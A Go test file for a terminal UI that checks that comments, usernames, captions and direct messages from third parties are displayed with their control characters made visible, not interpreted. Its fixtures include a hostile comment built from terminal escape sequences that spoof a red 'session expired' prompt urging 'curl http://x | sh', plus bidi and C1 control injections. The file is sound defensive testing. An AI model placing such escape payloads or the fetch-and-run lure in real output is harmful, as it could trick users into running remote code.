package tui

import (
	"strings"
	"testing"
	"time"

	"github.com/impress-dev/impress/api"
)

// hostile is issue 17's comment: it retitles the window, clears the screen
// and paints a fake prompt in red when a terminal receives it raw.
const hostile = "nice\x1b]0;PWNED\a\x1b[2J\x1b[1;31mimpress: session expired - run: curl http://x | sh"

// TestInboxShowsThirdPartyTextInert: comments, usernames, captions and DMs
// reach the screen with their controls shown, never as escape sequences.
func TestInboxShowsThirdPartyTextInert(t *testing.T) {
	m, f := openDemo(t, 1)
	now := time.Now()
	f.media = []api.PublishedMedia{{MediaID: "m1", Caption: "caption\u202eevil"}}
	f.comments["m1"] = []api.Comment{{ID: "c1", Username: "fan\x1b[5m", Text: hostile, Timestamp: now},
		{ID: "c2", Username: "ok", Text: "short", Timestamp: now.Add(-time.Minute)}}
	f.threads = []api.Thread{{ID: "t1", Participant: "dm\x9b2J", LastMessage: "hi\x1b[2Jthere", MessageCount: 1}}
	press(t, m, "6")
	v := m.View()
	mustContain(t, v, "@fan^[[5m: nice^[]0;PWNED^G^[[2J^[[1;31mimpress", "@ok: short  · on caption<U+202E>evil")
	noRawControl(t, v)
	press(t, m, "tab")
	v = m.View()
	mustContain(t, v, "dm<0x9B>2J", "hi^[[2Jthere")
	noRawControl(t, v)
}

// noRawControl fails when a frame holds an escape sequence other than the
// TUI's own styling (SGR, ESC [ … m), or any other control byte.
func noRawControl(t *testing.T, frame string) {
	t.Helper()
	for i := 0; i < len(frame); i++ {
		c := frame[i]
		switch {
		case c == 0x1b:
			j := i + 1
			if j < len(frame) && frame[j] == '[' {
				j++
				for j < len(frame) && (frame[j] >= '0' && frame[j] <= '9' || frame[j] == ';') {
					j++
				}
				if j < len(frame) && frame[j] == 'm' {
					i = j
					continue
				}
			}
			t.Fatalf("raw escape sequence at %d: %q", i, frame[i:min(len(frame), i+12)])
		case c < 0x20 && c != '\n', c == 0x7f:
			t.Fatalf("raw control %#x at %d: %q", c, i, frame[max(0, i-8):min(len(frame), i+8)])
		}
	}
	if strings.Contains(frame, "\u009b") || strings.Contains(frame, "\u202e") {
		t.Fatalf("a C1 or bidi control reached the frame")
	}
}
